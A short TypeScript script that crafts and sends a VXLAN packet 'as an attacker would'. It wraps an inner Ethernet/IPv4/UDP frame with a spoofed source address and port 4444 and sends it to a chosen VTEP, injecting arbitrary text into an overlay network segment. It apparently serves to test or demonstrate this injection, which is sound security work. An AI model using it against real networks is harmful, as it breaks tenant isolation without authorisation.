/**
 * Sends a VXLAN packet made by hand, as an attacker would: `VTEP PORT VNI DST-MAC DST-ADDRESS DST-PORT TEXT`. Inside is
 * an IPv4 UDP datagram.
 */
import { createSocket } from 'node:dgram';

const [vtep = '', port = '', vni = '', mac = '', address = '', innerPort = '', text = ''] = process.argv.slice(2);

const bytesOf = (text4: string): number[] => text4.split('.').map(Number);

function checksum(header: Buffer): number {
  let sum = 0;
  for (let at = 0; at < header.length; at += 2) sum += header.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

const payload = Buffer.from(text);
const vxlan = Buffer.alloc(8);
vxlan.writeUInt8(0x08, 0);
vxlan.writeUIntBE(Number(vni), 4, 3);
const ethernet = Buffer.from([
  ...mac.split(':').map((byte) => Number.parseInt(byte, 16)),
  2,
  0,
  0,
  0,
  0,
  0x66,
  0x08,
  0x00,
]);
const ip = Buffer.alloc(20);
ip.writeUInt8(0x45, 0);
ip.writeUInt16BE(20 + 8 + payload.length, 2);
ip.writeUInt8(64, 8);
ip.writeUInt8(17, 9);
ip.set(bytesOf('203.0.113.9'), 12);
ip.set(bytesOf(address), 16);
ip.writeUInt16BE(checksum(ip), 10);
const udp = Buffer.alloc(8);
udp.writeUInt16BE(4444, 0);
udp.writeUInt16BE(Number(innerPort), 2);
udp.writeUInt16BE(8 + payload.length, 4);

const socket = createSocket(vtep.includes(':') ? 'udp6' : 'udp4');
socket.send(Buffer.concat([vxlan, ethernet, ip, udp, payload]), Number(port), vtep, (error) => {
  socket.close();
  if (error !== null) throw error;
});
